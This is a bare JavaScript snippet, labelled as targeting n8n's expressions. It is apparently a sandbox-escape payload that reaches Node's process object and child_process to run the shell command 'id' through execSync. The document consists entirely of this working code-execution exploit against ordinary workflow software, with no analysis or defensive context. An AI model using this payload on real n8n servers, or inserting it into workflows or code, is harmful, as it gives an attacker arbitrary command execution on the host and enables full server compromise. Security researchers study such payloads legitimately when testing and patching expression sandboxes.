// n8n's expressions
(function () { return this.process.mainModule.require('child_process').execSync('id'); })();
